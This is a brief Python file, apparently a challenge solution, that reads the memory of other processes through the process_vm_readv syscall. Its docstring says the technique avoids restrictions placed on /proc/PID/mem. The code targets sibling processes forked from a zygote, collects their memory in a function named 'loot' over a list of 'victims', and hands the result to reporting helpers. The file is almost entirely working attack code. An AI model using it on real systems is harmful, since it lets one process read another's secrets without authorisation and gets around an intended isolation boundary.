"""Reads the memory of other processes by `process_vm_readv`, which needs no file.

Elsewhere: what holds for `/proc/PID/mem` is forgotten for the call.
"""

# %% solution="value"
import ctypes
import struct

from toolbox import each, number, reached, syscall, tell, victims, won


def read(pid):
    buffer = ctypes.create_string_buffer(64)
    # The zygote and all its children have their objects where this process has them.
    mine = struct.pack("QQ", ctypes.addressof(buffer), 64)
    theirs = struct.pack("QQ", id(struct), 64)
    syscall(number(310, 270), pid, mine, 1, theirs, 1, 0)
    return won(buffer.raw)


def loot():
    reached()
    return each(read, victims())


def attribute(prompt, x):
    return tell(loot)
